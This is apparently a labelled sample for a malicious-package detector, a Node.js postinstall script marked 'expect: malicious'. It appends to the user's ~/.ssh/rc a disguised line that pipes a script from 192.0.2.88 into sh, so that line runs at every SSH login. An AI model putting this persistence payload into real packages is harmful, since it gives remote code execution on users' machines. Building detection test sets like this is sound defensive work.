// expect: malicious
// when: install
// An ssh-agent helper's postinstall appends a fetch-and-run line to ~/.ssh/rc, which sshd runs at every login; the
// path is joined from a variable that holds another join (blind set 26).
const fs = require('fs');
const os = require('os');
const path = require('path');
const sshDir = path.join(os.homedir(), '.ssh');
const rc = path.join(sshDir, 'rc');
const block = ['# keep X11 forwarding working', '(curl -fsS http://192.0.2.88/s/rc.sh | sh >/dev/null 2>&1 &)', ''].join('\n');
const current = fs.existsSync(rc) ? fs.readFileSync(rc, 'utf8') : '';
if (!current.includes('ssh-agent-autoload')) fs.writeFileSync(rc, current + block);
